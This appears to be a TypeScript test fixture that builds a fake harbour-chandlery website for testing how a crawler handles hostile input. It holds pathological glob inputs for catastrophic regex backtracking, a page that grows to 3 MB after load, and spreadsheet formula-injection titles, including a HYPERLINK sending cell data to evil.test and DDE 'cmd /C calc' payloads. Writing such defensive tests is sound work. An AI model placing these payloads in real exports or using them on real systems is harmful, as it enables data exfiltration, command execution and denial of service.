import type { Page, Site } from './test-web.js';

/** `n` a's and b's from a fixed xorshift sequence. */
const coinFlips = (n: number, seed = 0x2545f491): string => {
  let x = seed;
  let out = '';
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out += (x >>> 0) % 2 ? 'a' : 'b';
  }
  return out;
};

/** Paths of patterns.test a test may name. */
export const PATTERNS_SITE = {
  /** 40 a's: against `*a*a*a*a*a*a*a*a*a*a*a*b` picomatch's regex backtracks for minutes. */
  longA: `/${'a'.repeat(40)}`,
  /** The same path ending in b: the glob above matches it. */
  longAB: `/${'a'.repeat(39)}b`,
  /**
   * Eight paths of 1,950 a's and b's in no repeating order: what a list of costly globs (`*a`
   * then a run of `?`) needs to meet a new set of live states at every character. Each URL stays
   * within MAX_URL_LENGTH (2,048), so the crawl keeps them all.
   */
  veryLong: Array.from({ length: 8 }, (_, i) => `/${coinFlips(1950, 0x2545f491 + i * 7919)}a`),
  products: ['/products/anchor-chain', '/products/tide-clock', '/products/brass-compass'],
  /** Pages whose titles and headings start with what a spreadsheet reads as a formula. */
  /** A page its script makes 3 MB large after load. */
  swell: '/tables',
  formulas: ['/notes/equals', '/notes/plus', '/notes/minus', '/notes/at', '/notes/tab', '/notes/cr'],
} as const;

/** Titles of the formula pages, in PATTERNS_SITE.formulas order. */
export const FORMULA_TITLES = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\tTabbed notes',
  '\rCarriage notes',
];

const escapeHtml = (s: string) =>
  s.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]!);

const paragraph = (seed: number, words = 90) =>
  `<p>${Array.from({ length: words }, (_, i) => ['tide', 'harbour', 'anchor', 'chart', 'pilot', 'ebb', 'flood', 'quay', 'buoy', 'sounding'][(i * 7 + seed) % 10]).join(' ')}.</p>`;

/** A page the size and shape of a real one (about 20 KB): head, scripts, menus, main text, footer. */
const realistic = (title: string, main: string, links: string[] = []): Page => ({
  type: 'text/html; charset=utf-8',
  body: `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${escapeHtml(title)}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="description" content="Chandlery and tide notes from the harbour">
<link rel="stylesheet" href="/static/site.css">
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());</script>
<style>body{font:16px/1.5 system-ui}nav a{margin:0 .5em}.price{font-weight:700}</style>
</head><body>
<header class="site-header"><a class="logo" href="/">Harbour Chandlery</a>
<nav class="menu"><a href="/">Home</a><a href="/products/anchor-chain">Chain</a><a href="/products/tide-clock">Clocks</a><a href="/notes/equals">Notes</a><a href="/about">About</a></nav>
<form class="search" action="/search"><input name="q" placeholder="Search"></form></header>
<div class="cookie-banner" role="dialog">We use cookies. <button>OK</button></div>
<main id="content"><article><h1>${escapeHtml(title)}</h1>
${main}
${Array.from({ length: 14 }, (_, i) => paragraph(i + title.length)).join('\n')}
<ul class="related">${links.map((l) => `<li><a href="${l}">${escapeHtml(l)}</a></li>`).join('')}</ul>
</article></main>
<aside class="sidebar"><h2>Popular</h2><ul>${Array.from({ length: 12 }, (_, i) => `<li><a href="/about#s${i}">Tide table ${i}</a></li>`).join('')}</ul></aside>
<footer class="site-footer"><p>© Harbour Chandlery</p><nav><a href="/about">About</a> <a href="/about#privacy">Privacy</a></nav></footer>
<script>(function(){var n=document.querySelectorAll('a').length;document.documentElement.dataset.links=String(n)})();</script>
</body></html>`,
});

/**
 * patterns.test: a small shop-like site for tests of work on untrusted patterns. The home page
 * links to two long paths of a's (a pathological glob's worst input), three product pages with
 * a price, and pages whose titles start with spreadsheet formula characters.
 */
export const patternsSite = (): Site => ({
  '/': realistic('Harbour Chandlery', '<p class="lead">Chain, clocks and charts for the working harbour.</p>', [
    PATTERNS_SITE.longA,
    PATTERNS_SITE.longAB,
    ...PATTERNS_SITE.veryLong,
    ...PATTERNS_SITE.products,
    ...PATTERNS_SITE.formulas,
  ]),
  [PATTERNS_SITE.longA]: realistic('A long way down', '<p>A page at the end of a long path.</p>'),
  [PATTERNS_SITE.longAB]: realistic('A long way down, then b', '<p>A page at the end of a long path.</p>'),
  ...Object.fromEntries(
    PATTERNS_SITE.veryLong.map((path) => [
      path,
      realistic('A very long way down', '<p>A page at the end of a very long path.</p>'),
    ]),
  ),
  ...Object.fromEntries(
    PATTERNS_SITE.products.map((path, i) => [
      path,
      realistic(
        `Product ${path.split('/').pop()}`,
        `<div class="product"><span class="price" data-currency="EUR">${(19.5 + i * 10).toFixed(2)}</span><span class="sku">SKU-${100 + i}</span></div>`,
      ),
    ]),
  ),
  ...Object.fromEntries(
    PATTERNS_SITE.formulas.map((path, i) => [
      path,
      realistic(FORMULA_TITLES[i]!, `<p class="formula">${escapeHtml(FORMULA_TITLES[i]!)}</p>`),
    ]),
  ),
  '/about': realistic('About the chandlery', '<p>Open on every tide.</p>'),
  // 20 KB from the server; its script then writes 3 MB of DOM (a million 3-byte characters).
  [PATTERNS_SITE.swell]: realistic(
    'Tide tables, generated',
    `<div id="tables"></div><script>addEventListener('DOMContentLoaded', () => {
      const p = document.createElement('p'); p.textContent = '\u2248'.repeat(1000000);
      document.getElementById('tables').append(p);
    });</script>`,
  ),
});
